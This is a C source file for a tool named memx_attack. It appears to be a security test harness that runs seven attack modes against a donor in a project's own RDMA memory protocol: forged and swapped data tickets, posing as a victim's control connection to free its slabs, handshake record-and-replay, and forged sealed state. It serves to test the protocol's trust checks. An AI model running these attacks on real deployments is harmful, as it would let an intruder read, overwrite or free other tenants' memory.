// SPDX-License-Identifier: GPL-2.0
/*
 * memx_attack MODE --bind IP --donor IP[:PORT] [options]
 *
 * An attacker against a donor that serves a victim volume whose 16-byte id
 * (--volume HEX) it has stolen. Each mode is one attack (protocol v3, see
 * "Trust" in <memx/proto.h>):
 *   steal-data    DATA connect with the victim's id and a forged ticket
 *                 (--ticket zero|random|HEX); if let in, RDMA READ, WRITE and
 *                 READ back --len bytes at --addr/--rkey (a victim slab).
 *   steal-client  CLIENT connect with the victim's id naming a key: key
 *                 --key-id with random bytes (no key), or --key-file's first
 *                 key; MEMX_MSG_AUTH with a random volume secret (with
 *                 --secret HEX: the proof of that secret, as the volume's
 *                 own next engine would send it; --epoch N: the engine epoch
 *                 it claims, default 0); then FREE_SLAB handles
 *                 1..--handles; disconnect.
 *   knock         CLIENT connect with the victim's id and disconnect at once,
 *                 without a word. It can get nothing on the wire (exit 3 once
 *                 it hung up): the harm it aims at, the victim's slabs freed
 *                 with "its" control connection, is for the caller to check.
 *   ticket-swap   with --key-file: authenticate a volume of our own, take its
 *                 data ticket, DATA connect with the victim's id and that
 *                 ticket (our own id with it must work: the ticket is good);
 *                 with --addr/--rkey, also our own data connection on them.
 *   record        with --key-file: a real handshake for a fresh volume of our
 *                 own; writes hello (56 bytes), AUTH message (64) and ticket
 *                 (16) to --file, then disconnects.
 *   replay        no key: sends --file's hello and AUTH bytes on a new
 *                 connection, then DATA connects with its ticket.
 *   state-forge   with --key-file and --name: a volume of our own (lease 60 s),
 *                 a slab of it filled with a forged state of volume --name
 *                 claiming --epoch (default 99: newer than any real one),
 *                 sealed properly under --key-file's first key (the one a
 *                 donor holds), kept with STATE_KEEP under that volume's tag
 *                 (from --state-key-file's first key when given: a donor
 *                 sees tags); disconnect. The donor cannot tell it from a real
 *                 copy (exit 0 when kept): the engine must, by its state key.
 * Exit: 0 the attack SUCCEEDED (record: recorded); 3 the donor refused (its
 * reason is printed); 1 other errors; 2 usage.
 */
#include <endian.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "mxv.h"
#include "peer_auth.h"
#include "common/state_seal.h"

#define EXIT_OK		0
#define EXIT_ERR	1
#define EXIT_USAGE	2
#define EXIT_REFUSED	3
#define RECVS		8
#define SEND_OFF	(RECVS * MEMX_MSG_SIZE)
#define DATA_OFF	4096
#define MAX_LEN		(1U << 20)
#define HELLO_LEN	sizeof(struct memx_hello)
#define RECORD_LEN	(HELLO_LEN + MEMX_MSG_SIZE + MEMX_SECRET_LEN)

static struct {
	const char *bind_ip, *key_file, *file, *ticket, *name, *state_key_file;
	char donor_ip[64];
	uint16_t port;
	uint8_t volume[16];
	bool have_volume, have_target;
	uint32_t key_id, rkey, len, handles;
	uint8_t secret[MEMX_SECRET_LEN];
	bool have_secret;
	uint64_t epoch;
	uint64_t addr;
} opt = { .port = MEMX_DEFAULT_PORT, .key_id = 1, .len = 4096, .handles = 32,
	  .ticket = "zero" };

/* One connection: its CQ, its QP, one buffer (RECV slots, a send slot, then data). */
struct peer {
	struct mxv_cq *cq;
	struct mxv_mr *mr;
	struct mxv_conn *conn;
	uint8_t *buf;
	uint8_t welcome[MXV_PDATA_MAX];
	size_t welcome_len;
};

static struct mxv_ctx *ctx;

static int prepost(struct mxv_conn *conn, void *arg)
{
	struct peer *p = arg;

	for (int i = 0; i < RECVS; i++) {
		int r = mxv_post_recv(conn, p->mr, i * MEMX_MSG_SIZE, MEMX_MSG_SIZE, i);

		if (r)
			return r;
	}
	return 0;
}

/* Connects p with these hello bytes. Returns EXIT_OK, EXIT_REFUSED (reason printed), EXIT_ERR. */
static int dial(struct peer *p, const void *hello, bool control, const char *what)
{
	struct mxv_qp_attr attr = { .max_send_wr = 8 };
	struct mxv_connect_param cp = { .dst_ip = opt.donor_ip, .port = opt.port,
					.src_ip = opt.bind_ip, .pdata = hello,
					.pdata_len = HELLO_LEN, .timeout_ms = 10000 };
	struct mxv_cm_result res;
	char why[160];
	int r;

	memset(p, 0, sizeof(*p));
	p->buf = calloc(1, DATA_OFF + MAX_LEN);
	r = p->buf ? mxv_mr_reg(ctx, p->buf, DATA_OFF + MAX_LEN, MXV_ACCESS_LOCAL_WRITE, &p->mr)
		   : -ENOMEM;
	if (!r)
		r = mxv_cq_create(ctx, 64, &p->cq);
	if (r) {
		fprintf(stderr, "attack: setup: %s\n", strerror(-r));
		return EXIT_ERR;
	}
	attr.send_cq = attr.recv_cq = p->cq;
	if (control) {
		attr.max_recv_wr = RECVS;
		attr.prepost = prepost;
		attr.prepost_arg = p;
	}
	r = mxv_connect(&cp, &attr, &p->conn, &res);
	if (r == -ECONNREFUSED && res.pdata_len &&
	    !memxd_reject_explain(res.pdata, res.pdata_len, why, sizeof(why))) {
		printf("attack: %s: REFUSED by donor %s: %s\n", what, opt.donor_ip, why);
		return EXIT_REFUSED;
	}
	if (r) {
		printf("attack: %s: connect to %s failed: %s (%s)\n", what, opt.donor_ip,
		       strerror(-r), res.reason);
		return r == -ECONNREFUSED ? EXIT_REFUSED : EXIT_ERR;
	}
	memcpy(p->welcome, res.pdata, res.pdata_len);
	p->welcome_len = res.pdata_len;
	printf("attack: %s: CONNECTED to donor %s:%u\n", what, opt.donor_ip, opt.port);
	return EXIT_OK;
}

/* Sends raw bytes as a control message; waits up to ms. Returns 1 with *out, 0 none, -errno. */
static int exchange(struct peer *p, const void *msg, int ms, struct memxd_msg_info *out)
{
	struct ibv_wc wc[4];
	int r, n;

	memcpy(p->buf + SEND_OFF, msg, MEMX_MSG_SIZE);
	r = mxv_post_send(p->conn, p->mr, SEND_OFF, MEMX_MSG_SIZE, 100);
	if (r)
		return r;
	for (;;) {
		n = mxv_cq_wait(p->cq, wc, 4, ms);
		if (n == -ETIMEDOUT)
			return 0;
		if (n < 0)
			return n;
		for (int i = 0; i < n; i++) {
			if (wc[i].status != IBV_WC_SUCCESS)
				return mxv_wc_errno(wc[i].status);
			if (wc[i].opcode != IBV_WC_RECV)
				continue;
			r = memxd_msg_decode(p->buf + wc[i].wr_id * MEMX_MSG_SIZE, wc[i].byte_len,
					    out, NULL);
			mxv_post_recv(p->conn, p->mr, wc[i].wr_id * MEMX_MSG_SIZE, MEMX_MSG_SIZE,
				      wc[i].wr_id);
			return r ? -EPROTO : 1;
		}
	}
}

/* One-sided READ (write 0) or WRITE of opt.len bytes at the target. Returns 0 or -errno. */
static int rdma(struct peer *p, int write)
{
	struct ibv_wc wc;
	int r = write ? mxv_post_write(p->conn, p->mr, DATA_OFF, opt.len, opt.addr, opt.rkey, 7)
		      : mxv_post_read(p->conn, p->mr, DATA_OFF, opt.len, opt.addr, opt.rkey, 7);

	if (r)
		return r;
	for (;;) {
		r = mxv_cq_wait(p->cq, &wc, 1, 10000);
		if (r < 0)
			return r;
		if (wc.wr_id == 7)
			return mxv_wc_errno(wc.status);
	}
}

/* RDMA READ, WRITE, READ back at the target on a data connection. Returns 0 if any worked. */
static int touch_target(struct peer *p)
{
	static const char mark[] = "MEMX-ATTACK!";
	int rd, wr;

	rd = rdma(p, 0);
	printf("attack: RDMA READ of %u bytes at %#" PRIx64 " rkey %#x: %s\n", opt.len, opt.addr,
	       opt.rkey, rd ? strerror(-rd) : "SUCCEEDED");
	if (!rd) {
		printf("attack: read: ");
		for (uint32_t i = 0; i < 16 && i < opt.len; i++)
			printf("%02x", p->buf[DATA_OFF + i]);
		printf("\n");
	}
	for (uint32_t i = 0; i < opt.len; i++)
		p->buf[DATA_OFF + i] = (uint8_t)mark[i % (sizeof(mark) - 1)];
	wr = rdma(p, 1);
	printf("attack: RDMA WRITE of %u bytes at %#" PRIx64 ": %s\n", opt.len, opt.addr,
	       wr ? strerror(-wr) : "SUCCEEDED");
	return !rd || !wr ? 0 : -EACCES;
}

/* A hello for the victim's volume: CLIENT naming key k, or DATA with ticket. */
static void victim_hello(struct peer_hs *hs, uint16_t role, const struct memxd_key *k,
			 const uint8_t ticket[MEMX_SECRET_LEN])
{
	peer_hs_hello(hs, role, k, opt.volume, ticket);
}

/*
 * MEMX_MSG_AUTH for key k without checking the donor's proof first (an
 * attacker who lacks the key goes on anyway). Says whether the proof held.
 */
static void forge_auth(struct peer_hs *hs, const struct memxd_key *k, const struct peer *p,
		       const uint8_t secret[MEMX_SECRET_LEN], uint8_t msg[MEMX_MSG_SIZE])
{
	struct memxd_msg_info auth = { .type = MEMX_MSG_AUTH, .seq = 1, .auth.epoch = opt.epoch };

	printf("attack: the donor's proof %s under our key %u\n",
	       memxd_auth_welcome_ok(k, hs->hello, p->welcome) ? "holds" : "does NOT hold",
	       k->id);
	memxd_auth_session(k, hs->hello, p->welcome, hs->session);
	memxd_auth_seal(hs->session, MEMXD_SEAL_CLIENT, secret, auth.auth.sealed);
	memxd_msg_encode(msg, MEMX_MSG_SIZE, &auth);
}

/* Sends AUTH bytes; returns EXIT_OK if the donor accepted them, EXIT_REFUSED, EXIT_ERR. */
static int send_auth(struct peer *p, const uint8_t msg[MEMX_MSG_SIZE],
		     struct memxd_msg_info *rep)
{
	int r = exchange(p, msg, 5000, rep);

	if (r < 0 || (r == 1 && rep->type != MEMX_MSG_AUTH_REPLY)) {
		printf("attack: AUTH: %s\n", r < 0 ? strerror(-r) : "unexpected reply");
		return r < 0 ? EXIT_REFUSED : EXIT_ERR;
	}
	if (!r) {
		printf("attack: AUTH: no reply\n");
		return EXIT_REFUSED;
	}
	printf("attack: AUTH: %s\n", rep->status ? strerror((int)rep->status) : "ACCEPTED");
	return rep->status ? EXIT_REFUSED : EXIT_OK;
}

/* FREE_SLAB handles 1..opt.handles until the connection dies. Returns how many freed. */
static unsigned int free_handles(struct peer *p)
{
	struct memxd_msg_info req, rep;
	uint8_t raw[MEMX_MSG_SIZE];
	unsigned int freed = 0;
	int r;

	for (uint32_t h = 1; h <= opt.handles; h++) {
		req = (struct memxd_msg_info){ .type = MEMX_MSG_FREE_SLAB, .seq = 1000 + h,
					       .free.handle = h };
		memxd_msg_encode(raw, sizeof(raw), &req);
		r = exchange(p, raw, 500, &rep);
		if (r == 1 && rep.type == MEMX_MSG_FREE_REPLY && !rep.status) {
			freed++;
			printf("attack: FREE_SLAB handle %u: FREED\n", h);
		} else if (r == 1) {
			printf("attack: FREE_SLAB handle %u: %s\n", h,
			       rep.status ? strerror((int)rep.status) : "odd reply");
		} else if (r < 0 || mxv_conn_check(p->conn, 0) < 0) {
			printf("attack: FREE_SLAB handle %u: connection gone (%s)\n", h,
			       r < 0 ? strerror(-r) : "closed by the donor");
			break;
		}
	}
	printf("attack: freed %u slabs\n", freed);
	return freed;
}

static void hangup(struct peer *p)
{
	if (!p->conn)
		return;
	mxv_conn_disconnect(p->conn);
	mxv_conn_check(p->conn, 2000);
	mxv_conn_destroy(p->conn);
	p->conn = NULL;
}

/* The first key of --key-file. Returns 0 or -errno. */
static int file_key(struct memxd_key *k)
{
	static struct memxd_keyring kr;
	int r = peer_load_keys(opt.key_file, &kr);

	if (!r)
		*k = kr.key[0];
	return r;
}

/* Mode steal-data: the victim's data connection with a forged ticket. */
static int attack_steal_data(void)
{
	uint8_t ticket[MEMX_SECRET_LEN] = { 0 };
	struct peer_hs hs;
	struct peer p;
	int r;

	if (!strcmp(opt.ticket, "random"))
		memxd_auth_random(ticket, sizeof(ticket));
	else if (strcmp(opt.ticket, "zero"))
		for (int i = 0; i < MEMX_SECRET_LEN; i++)
			if (sscanf(opt.ticket + 2 * i, "%2hhx", &ticket[i]) != 1)
				return EXIT_USAGE;
	victim_hello(&hs, MEMX_ROLE_DATA, NULL, ticket);
	r = dial(&p, hs.hello, false, "data connection with a forged ticket");
	if (r)
		return r;
	if (!opt.have_target)
		return EXIT_OK;		/* in the victim's protection domain: that is enough */
	touch_target(&p);
	return EXIT_OK;
}

/* Mode steal-client: the victim's control connection, AUTH, FREE_SLAB, disconnect. */
static int attack_steal_client(void)
{
	uint8_t secret[MEMX_SECRET_LEN], auth[MEMX_MSG_SIZE];
	struct memxd_key key = { .id = opt.key_id };
	struct memxd_msg_info rep;
	struct peer_hs hs;
	struct peer p;
	unsigned int freed;
	int r, authed;

	if (opt.key_file && file_key(&key))
		return EXIT_ERR;
	if (!opt.key_file)
		memxd_auth_random(key.bytes, sizeof(key.bytes));
	printf("attack: posing as the victim's control connection with %s key %u\n",
	       opt.key_file ? "the cluster's" : "a random", key.id);
	memxd_auth_random(secret, sizeof(secret));
	victim_hello(&hs, MEMX_ROLE_CLIENT, &key, NULL);
	r = dial(&p, hs.hello, true, "control connection");
	if (r)
		return r;
	if (opt.have_secret) {
		struct memxd_welcome_info w;
		struct memxd_wire_error err;

		if (memxd_welcome_decode(p.welcome, p.welcome_len, &w, &err)) {
			printf("attack: bad welcome: %s\n", err.reason);
			return EXIT_ERR;
		}
		memxd_auth_volume_proof(opt.secret, w.donor_id, secret);
		printf("attack: proving the volume's secret, as its next engine would\n");
	}
	forge_auth(&hs, &key, &p, secret, auth);
	authed = send_auth(&p, auth, &rep);
	freed = free_handles(&p);
	hangup(&p);
	printf("attack: disconnected\n");
	if (authed == EXIT_ERR)
		return EXIT_ERR;
	return authed == EXIT_OK || freed ? EXIT_OK : EXIT_REFUSED;
}

/* Mode knock: the victim's control connection, dropped at once. */
static int attack_knock(void)
{
	struct memxd_key key = { .id = opt.key_id };
	struct peer_hs hs;
	struct peer p;
	int r;

	victim_hello(&hs, MEMX_ROLE_CLIENT, &key, NULL);
	r = dial(&p, hs.hello, true, "control connection (knock)");
	if (r)
		return r;
	hangup(&p);
	printf("attack: disconnected without authenticating: nothing obtained on the wire\n");
	return EXIT_REFUSED;
}

/*
 * A real handshake for our own volume (id, fresh secret) with key k: the
 * control connection in *p, its hello and AUTH message, and the ticket.
 * Returns EXIT_OK, EXIT_REFUSED or EXIT_ERR.
 */
static int own_volume(struct peer *p, const struct memxd_key *k, const uint8_t id[16],
		      struct peer_hs *hs, uint8_t auth[MEMX_MSG_SIZE],
		      uint8_t ticket[MEMX_SECRET_LEN])
{
	uint8_t secret[MEMX_SECRET_LEN];
	struct memxd_msg_info rep;
	int r;

	memxd_auth_random(secret, sizeof(secret));
	peer_hs_hello(hs, MEMX_ROLE_CLIENT, k, id, NULL);
	r = dial(p, hs->hello, true, "our own volume's control connection");
	if (r)
		return r;
	if (peer_hs_auth(hs, k, p->welcome, p->welcome_len, secret, 1, auth)) {
		printf("attack: the donor does not prove key %u\n", k->id);
		return EXIT_ERR;
	}
	r = send_auth(p, auth, &rep);
	if (!r && peer_hs_ticket(hs, &rep, ticket)) {
		printf("attack: the ticket does not open\n");
		return EXIT_ERR;
	}
	return r;
}

/* Mode ticket-swap: our own volume's good ticket, presented for the victim's volume. */
static int attack_ticket_swap(void)
{
	uint8_t own_id[16], auth[MEMX_MSG_SIZE], ticket[MEMX_SECRET_LEN];
	struct peer ctl, own, stolen;
	struct memxd_key key;
	struct peer_hs hs;
	int r, hit = 0;

	if (file_key(&key))
		return EXIT_ERR;
	memxd_auth_random(own_id, sizeof(own_id));
	if (own_volume(&ctl, &key, own_id, &hs, auth, ticket))
		return EXIT_ERR;
	peer_hs_hello(&hs, MEMX_ROLE_DATA, NULL, own_id, ticket);
	if (dial(&own, hs.hello, false, "our own volume's data connection")) {
		printf("attack: our own ticket does not work: nothing proven\n");
		return EXIT_ERR;
	}
	if (opt.have_target) {
		printf("attack: the victim's slab from our own volume's data connection:\n");
		hit = !touch_target(&own);
	}
	victim_hello(&hs, MEMX_ROLE_DATA, NULL, ticket);
	r = dial(&stolen, hs.hello, false, "the victim's data connection with our ticket");
	if (!r && opt.have_target)
		touch_target(&stolen);
	hangup(&ctl);
	if (r == EXIT_ERR)
		return r;
	return !r || hit ? EXIT_OK : EXIT_REFUSED;
}

/* Mode record: a handshake of our own, written to --file. */
static int attack_record(void)
{
	uint8_t id[16], rec[RECORD_LEN];
	struct memxd_key key;
	struct peer_hs hs;
	struct peer p;
	FILE *f;

	if (file_key(&key))
		return EXIT_ERR;
	memxd_auth_random(id, sizeof(id));
	if (own_volume(&p, &key, id, &hs, rec + HELLO_LEN, rec + HELLO_LEN + MEMX_MSG_SIZE))
		return EXIT_ERR;
	memcpy(rec, hs.hello, HELLO_LEN);
	f = fopen(opt.file, "wb");
	if (!f || fwrite(rec, 1, sizeof(rec), f) != sizeof(rec) || fclose(f)) {
		perror(opt.file);
		return EXIT_ERR;
	}
	hangup(&p);
	printf("attack: recorded %zu bytes (hello, AUTH, ticket) to %s; disconnected\n",
	       sizeof(rec), opt.file);
	return EXIT_OK;
}

/* Mode replay: a recorded handshake's hello and AUTH, then its ticket, without the key. */
static int attack_replay(void)
{
	uint8_t rec[RECORD_LEN], vol[16];
	struct memxd_msg_info rep;
	struct memxd_hello_info h;
	struct peer ctl, data;
	struct peer_hs hs;
	FILE *f = fopen(opt.file, "rb");
	int r, r2;

	if (!f || fread(rec, 1, sizeof(rec), f) != sizeof(rec)) {
		fprintf(stderr, "attack: %s: not a recording\n", opt.file);
		return EXIT_ERR;
	}
	fclose(f);
	if (memxd_hello_decode(rec, HELLO_LEN, &h, NULL))
		return EXIT_ERR;
	memcpy(vol, h.volume_id, sizeof(vol));
	r = dial(&ctl, rec, true, "replayed control hello");
	if (!r)
		r = send_auth(&ctl, rec + HELLO_LEN, &rep);
	peer_hs_hello(&hs, MEMX_ROLE_DATA, NULL, vol, rec + HELLO_LEN + MEMX_MSG_SIZE);
	r2 = dial(&data, hs.hello, false, "data connection with the recorded ticket");
	hangup(&ctl);
	if (r == EXIT_ERR || r2 == EXIT_ERR)
		return EXIT_ERR;
	return !r || !r2 ? EXIT_OK : EXIT_REFUSED;
}

/* Mode state-forge: a forged sealed state of volume --name, kept under its tag. */
static int attack_state_forge(void)
{
	uint8_t own_id[16], auth[MEMX_MSG_SIZE], ticket[MEMX_SECRET_LEN], raw[MEMX_MSG_SIZE];
	uint8_t forged[8192];
	uint64_t epoch = opt.epoch ? opt.epoch : 99;
	uint64_t gen = MEMX_STATE_GEN(epoch, 1);	/* the first state of that engine */
	struct memxd_msg_info info, rep;
	struct peer ctl, data;
	struct memxd_key key, tag_key;
	static struct memxd_keyring tag_kr;
	struct peer_hs hs;
	int r;

	if (file_key(&key))
		return EXIT_ERR;
	tag_key = key;
	if (opt.state_key_file) {
		if (peer_load_keys(opt.state_key_file, &tag_kr))
			return EXIT_ERR;
		tag_key = tag_kr.key[0];
	}
	memxd_auth_random(own_id, sizeof(own_id));
	/* Our own volume, with a lease: the forged state outlives this connection. */
	memxd_auth_random(ticket, sizeof(ticket));
	peer_hs_hello(&hs, MEMX_ROLE_CLIENT, &key, own_id, NULL);
	r = dial(&ctl, hs.hello, true, "our own volume's control connection");
	if (r)
		return r;
	if (peer_hs_auth(&hs, &key, ctl.welcome, ctl.welcome_len, ticket, 1, auth) ||
	    memxd_msg_decode(auth, sizeof(auth), &info, NULL))
		return EXIT_ERR;
	info.auth.lease_s = 60;
	memxd_msg_encode(auth, sizeof(auth), &info);
	if (send_auth(&ctl, auth, &rep) || peer_hs_ticket(&hs, &rep, ticket))
		return EXIT_ERR;
	info = (struct memxd_msg_info){ .type = MEMX_MSG_ALLOC_SLAB, .seq = 2,
					.alloc.slab_bytes = 1 << 20 };
	memxd_msg_encode(raw, sizeof(raw), &info);
	if (exchange(&ctl, raw, 5000, &rep) != 1 || rep.status) {
		printf("attack: no slab for the forged state\n");
		return EXIT_ERR;
	}
	peer_hs_hello(&hs, MEMX_ROLE_DATA, NULL, own_id, ticket);
	if (dial(&data, hs.hello, false, "our own volume's data connection"))
		return EXIT_ERR;
	opt.addr = rep.grant.remote_addr;
	opt.rkey = rep.grant.rkey;
	opt.len = (uint32_t)memxd_state_sealed_len(sizeof(forged));
	memxd_auth_random(forged, sizeof(forged));
	memxd_state_seal(&key, opt.name, gen, forged, sizeof(forged), data.buf + DATA_OFF);
	r = rdma(&data, 1);
	if (r) {
		printf("attack: writing the forged state failed: %s\n", strerror(-r));
		return EXIT_ERR;
	}
	info = (struct memxd_msg_info){ .type = MEMX_MSG_STATE_KEEP, .seq = 3 };
	memxd_state_tag(&tag_key, opt.name, info.state.tag);
	info.state.epoch = gen;
	info.state.handle = rep.grant.handle;
	info.state.length = opt.len;
	memxd_msg_encode(raw, sizeof(raw), &info);
	r = exchange(&ctl, raw, 5000, &rep);
	hangup(&data);
	hangup(&ctl);
	if (r != 1 || rep.type != MEMX_MSG_STATE_REPLY) {
		printf("attack: STATE_KEEP: no reply\n");
		return EXIT_ERR;
	}
	printf("attack: forged state of volume %s, epoch %" PRIu64 ", %u bytes, sealed under key "
	       "%u: %s\n", opt.name, epoch, opt.len, key.id, rep.status ? strerror((int)rep.status) : "KEPT by the donor");
	return rep.status ? EXIT_REFUSED : EXIT_OK;
}

static int parse_volume(const char *s)
{
	if (strlen(s) != 32)
		return -1;
	for (int i = 0; i < 16; i++)
		if (sscanf(s + 2 * i, "%2hhx", &opt.volume[i]) != 1)
			return -1;
	opt.have_volume = true;
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: memx_attack steal-data|steal-client|knock|ticket-swap|record|"
		"replay|state-forge --bind IP --donor IP[:PORT] [--volume HEXID] [--addr A --rkey K] [--len N]\n"
		"        [--ticket zero|random|HEX] [--key-id N] [--key-file PATH] [--handles N]"
		" [--file PATH]\n        [--secret HEX] [--epoch N] [--name NAME]\n"
		"        [--state-key-file PATH]\n");
	return EXIT_USAGE;
}

/* Parses one option. Returns 0 or -1 (bad). */
static int parse_opt(int ch, char *arg)
{
	char *colon;

	switch (ch) {
	case 'b': opt.bind_ip = arg; break;
	case 'd':
		snprintf(opt.donor_ip, sizeof(opt.donor_ip), "%s", arg);
		colon = strrchr(opt.donor_ip, ':');
		if (colon) {
			*colon = '\0';
			opt.port = (uint16_t)atoi(colon + 1);
		}
		break;
	case 'v': return parse_volume(arg);
	case 'a': opt.addr = strtoull(arg, NULL, 0); opt.have_target = true; break;
	case 'r': opt.rkey = (uint32_t)strtoul(arg, NULL, 0); break;
	case 'l': opt.len = (uint32_t)strtoul(arg, NULL, 0); break;
	case 'n': opt.handles = (uint32_t)strtoul(arg, NULL, 0); break;
	case 't':
		opt.ticket = arg;
		return strcmp(arg, "zero") && strcmp(arg, "random") && strlen(arg) != 32 ? -1 : 0;
	case 'i': opt.key_id = (uint32_t)strtoul(arg, NULL, 0); break;
	case 'k': opt.key_file = arg; break;
	case 'f': opt.file = arg; break;
	case 's':
		if (strlen(arg) != 2 * MEMX_SECRET_LEN)
			return -1;
		for (int i = 0; i < MEMX_SECRET_LEN; i++)
			if (sscanf(arg + 2 * i, "%2hhx", &opt.secret[i]) != 1)
				return -1;
		opt.have_secret = true;
		break;
	case 'E': opt.epoch = strtoull(arg, NULL, 0); break;
	case 'N': opt.name = arg; break;
	case 'S': opt.state_key_file = arg; break;
	default: return -1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "bind", required_argument, NULL, 'b' }, { "donor", required_argument, NULL, 'd' },
		{ "volume", required_argument, NULL, 'v' }, { "addr", required_argument, NULL, 'a' },
		{ "rkey", required_argument, NULL, 'r' }, { "len", required_argument, NULL, 'l' },
		{ "handles", required_argument, NULL, 'n' }, { "ticket", required_argument, NULL, 't' },
		{ "key-id", required_argument, NULL, 'i' },
		{ "key-file", required_argument, NULL, 'k' },
		{ "file", required_argument, NULL, 'f' }, { "secret", required_argument, NULL, 's' },
		{ "epoch", required_argument, NULL, 'E' },
		{ "name", required_argument, NULL, 'N' },
		{ "state-key-file", required_argument, NULL, 'S' },
		{ 0 }
	};
	static const struct {
		const char *name;
		int (*run)(void);
		bool volume, key, file;	/* what the mode needs */
	} modes[] = {
		{ "steal-data", attack_steal_data, true, false, false },
		{ "steal-client", attack_steal_client, true, false, false },
		{ "knock", attack_knock, true, false, false },
		{ "ticket-swap", attack_ticket_swap, true, true, false },
		{ "record", attack_record, false, true, true },
		{ "replay", attack_replay, false, false, true },
		{ "state-forge", attack_state_forge, false, true, false },
	};
	const char *mode;
	unsigned int i;
	int ch, r;

	setvbuf(stdout, NULL, _IOLBF, 0);
	while ((ch = getopt_long(argc, argv, "", longopts, NULL)) != -1)
		if (parse_opt(ch, optarg))
			return usage();
	if (optind != argc - 1 || !opt.len || opt.len > MAX_LEN || !opt.bind_ip ||
	    !opt.donor_ip[0])
		return usage();
	mode = argv[optind];
	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
		if (!strcmp(mode, modes[i].name))
			break;
	if (i == sizeof(modes) / sizeof(modes[0]) || (modes[i].volume && !opt.have_volume) ||
	    (modes[i].key && !opt.key_file) || (modes[i].file && !opt.file) ||
	    (modes[i].run == attack_state_forge && !opt.name))
		return usage();
	if (memxd_auth_init())
		return EXIT_ERR;
	r = mxv_ctx_open(opt.bind_ip, &ctx);
	if (r) {
		fprintf(stderr, "attack: no RDMA device for %s: %s\n", opt.bind_ip, strerror(-r));
		return EXIT_ERR;
	}
	return modes[i].run();
}
